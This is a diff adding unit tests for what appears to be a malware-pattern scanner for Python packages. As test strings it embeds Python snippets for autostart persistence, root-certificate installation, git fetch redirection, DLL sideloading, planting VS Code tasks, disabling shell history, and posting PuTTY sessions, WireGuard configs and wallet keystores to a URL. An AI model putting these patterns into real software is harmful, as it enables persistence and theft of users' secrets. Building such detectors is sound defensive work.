@@ -2971,6 +2971,127 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/av.py", update))).isEmpty();
   }
 
+  @Test
+  void morePlacesProgramsStartFromAreKnown() {
+    String policyRun =
+        "import winreg\nwith winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
+            + "r'Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run') as k:\n"
+            + "    winreg.SetValueEx(k, 'Sync', 0, winreg.REG_SZ, COMMAND)\n";
+    String officeTest =
+        "import winreg\nwith winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
+            + "r'Software\\Microsoft\\Office test\\Special\\Perf') as k:\n"
+            + "    winreg.SetValueEx(k, '', 0, winreg.REG_SZ, DLL)\n";
+    String nativeHost =
+        "import winreg\nkey = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
+            + "r'Software\\Google\\Chrome\\NativeMessagingHosts\\com.example.host')\n"
+            + "winreg.SetValueEx(key, '', 0, winreg.REG_SZ, MANIFEST)\n";
+    String iterm =
+        "import os\nfolder = os.path.join(SUPPORT, 'Scripts', 'AutoLaunch')\n"
+            + "with open(os.path.join(folder, 'x.py'), 'w') as fh:\n    fh.write(CODE)\n";
+    String module =
+        "import subprocess\nsubprocess.run(['insmod', os.path.join(HERE, 'cache.ko')])\n";
+    String runRead =
+        "import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+            + "r'Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer') as k:\n"
+            + "    value = winreg.QueryValueEx(k, 'NoDrives')[0]\n";
+    String modules = "import subprocess\nout = subprocess.run(['lsmod'], capture_output=True)\n";
+
+    assertThat(levelIn(policyRun, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(officeTest, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(nativeHost, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(iterm, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(module, "loads-kernel-module")).isEqualTo(RiskLevel.HIGH);
+    // an Explorer policy read, and the loaded modules listed
+    assertThat(check(wheelWith("pkg/policy.py", runRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/mods.py", modules))).isEmpty();
+  }
+
+  @Test
+  void editorsGitAndTheSystemsTrustTurnedAgainstTheUserAreHigh() {
+    String neovim =
+        "import os\nwith open(os.path.join(CONFIG, 'nvim', 'init.lua'), 'a') as fh:\n"
+            + "    fh.write(f'vim.fn.jobstart({{\"{EXE}\", \"-m\", \"pkg.x\"}})\\n')\n";
+    String insteadOf =
+        "import subprocess\nsubprocess.run(['git', 'config', '--global', "
+            + "'url.https://mirror.example/.insteadOf', 'https://github.com/'])\n";
+    String root =
+        "import subprocess\nsubprocess.run(['certutil', '-addstore', '-f', 'Root', CERT])\n";
+    String mac =
+        "import subprocess\nsubprocess.run(['security', 'add-trusted-cert', '-d', '-r', "
+            + "'trustRoot', '-k', KEYCHAIN, CERT])\n";
+    String vimrcRead =
+        "import os\nvimrc = os.path.join(os.environ['HOME'], '.vimrc')\n"
+            + "with open(report, 'w') as fh:\n    fh.write(vimrc)\n";
+    String localRewrite =
+        "import subprocess\nsubprocess.run(['git', 'config', 'url.git@h.example:.insteadOf', "
+            + "'https://h.example/'], cwd=checkout)\n";
+    String certs = "import subprocess\nsubprocess.run(['certutil', '-store', 'Root'])\n";
+
+    assertThat(levelIn(neovim, "editor-config-runs-command")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(insteadOf, "git-fetch-redirected")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(root, "adds-root-certificate")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(mac, "adds-root-certificate")).isEqualTo(RiskLevel.HIGH);
+    // a path to .vimrc reported, one checkout's own rewrite, the trusted roots listed
+    assertThat(check(wheelWith("pkg/paths.py", vimrcRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/clone.py", localRewrite))).isEmpty();
+    assertThat(check(wheelWith("pkg/certs.py", certs))).isEmpty();
+  }
+
+  @Test
+  void savedSessionsCheckoutHeadersAndWalletKeysSentAreSecretsSent() {
+    String putty =
+        "import winreg, requests\nroot = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+            + "r'Software\\SimonTatham\\PuTTY\\Sessions')\n"
+            + "requests.post(URL, json={'s': winreg.EnumKey(root, 0)})\n";
+    String header =
+        "import subprocess, requests\nout = subprocess.run(['git', 'config', '--get-regexp', "
+            + "r'http\\..*\\.extraheader'], capture_output=True, text=True).stdout\n"
+            + "requests.post(URL, data=out)\n";
+    String wireguard =
+        "import glob, requests\nfor p in glob.glob('/etc/wireguard/*.conf'):\n"
+            + "    requests.post(URL, data=open(p).read())\n";
+    String sui =
+        "import os, requests\npath = os.path.join(HOME, '.sui', 'sui_config', 'sui.keystore')\n"
+            + "requests.post(URL, data=open(path).read())\n";
+    String extension = "def matches(key):\n    return key.lower().endswith('.extraheader')\n";
+
+    assertThat(levelIn(putty, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(header, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(wireguard, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(sui, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    // a configuration key recognised by its ending (GitPython)
+    assertThat(check(wheelWith("pkg/cfg.py", extension))).isEmpty();
+  }
+
+  @Test
+  void historyOffDllsBesideProgramsAndTasksInEveryRepositoryAreHigh() {
+    String history =
+        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
+            + "    fh.write('unset HISTFILE\\nexport HISTSIZE=0\\n')\n";
+    String sideload =
+        "import os, shutil\nfolder = os.path.join(os.environ['LOCALAPPDATA'], 'slack')\n"
+            + "shutil.copyfile(PAYLOAD, os.path.join(folder, 'version.dll'))\n";
+    String tasks =
+        "import glob, json, os\nfor repo in glob.glob(os.path.join(HOME, '*', '.git')):\n"
+            + "    with open(os.path.join(repo, '..', '.vscode', 'tasks.json'), 'w') as fh:\n"
+            + "        json.dump({'tasks': [{'command': CMD, 'runOptions': "
+            + "{'runOn': 'folderOpen'}}]}, fh)\n";
+    String histsize =
+        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
+            + "    fh.write('export HISTSIZE=10000\\n')\n";
+    String versionInfo =
+        "import ctypes, os, shutil\nversion = ctypes.WinDLL('version.dll')\n"
+            + "shutil.copyfile(LOG, os.path.join(os.environ['APPDATA'], 'app', 'last.log'))\n";
+
+    assertThat(levelIn(history, "shell-history-disabled")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(sideload, "plants-dll-beside-program")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(tasks, "config-planted-in-repositories")).isEqualTo(RiskLevel.HIGH);
+    // a larger history, and the version API loaded beside a log copied
+    assertThat(worst(check(wheelWith("pkg/hist.py", histsize)))).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(patternsOf(check(wheelWith("pkg/ver.py", versionInfo))))
+        .doesNotContain("plants-dll-beside-program");
+  }
+
   @Nested
   class ImportedAliases {
 
